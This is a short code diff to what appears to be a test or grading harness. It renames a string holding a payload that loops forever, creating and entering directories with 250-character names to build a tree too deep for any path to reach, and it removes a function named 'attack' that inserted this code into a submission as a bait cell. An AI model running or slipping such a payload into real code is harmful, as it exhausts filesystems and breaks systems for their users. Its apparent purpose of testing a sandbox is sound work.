@@ -1,6 +1,6 @@
 """Makes folders and links, which take no space, and a tree so deep that no path reaches its bottom."""
 
-CODE = r"""
+BAIT_CELL = r"""
 import os
 
 home = os.getcwd()
@@ -12,7 +12,3 @@ while True:
     os.mkdir("d" * 250)
     os.chdir("d" * 250)
 """
-
-
-def attack(submission):
-    submission.add(submission.bait.cell(CODE))
